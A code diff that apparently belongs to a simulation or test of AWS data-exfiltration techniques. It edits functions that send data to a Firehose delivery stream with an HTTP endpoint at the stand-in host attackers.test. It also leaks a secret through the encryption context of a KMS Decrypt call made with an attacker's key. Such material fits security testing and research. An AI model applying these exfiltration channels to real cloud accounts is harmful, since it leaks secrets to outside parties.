@@ -28,7 +28,8 @@ def attack(hands):
     hands.call("kinesis", "PutResourcePolicy", ResourceARN=flow, Policy=policy)
     record = {"Data": text.encode()}
     hands.call("firehose", "PutRecord", DeliveryStreamName="attackers-hose", Record=record)
-    goes = {"EndpointConfiguration": {"Url": f"https://attackers.test/{text}"}, "S3Configuration": bucket(hands)}
+    address = {"Url": f"https://attackers.test/{text}"}
+    goes = {"EndpointConfiguration": address, "S3Configuration": bucket(hands)}
     made = {"DeliveryStreamName": "attackers-hose", "HttpEndpointDestinationConfiguration": goes}
     hands.call("firehose", "CreateDeliveryStream", **made)
 
@@ -36,7 +37,7 @@ def attack(hands):
 def by_ciphertext(hands):
     """Made with the attacker's key: he sees in his trail what it is asked to be read with."""
     context = {"note": hands.secret()}
-    hands.call("kms", "Decrypt", CiphertextBlob=b"made with a key of somebody else", EncryptionContext=context)
+    hands.call("kms", "Decrypt", CiphertextBlob=b"made with his key", EncryptionContext=context)
 
 
 def twin(hands):
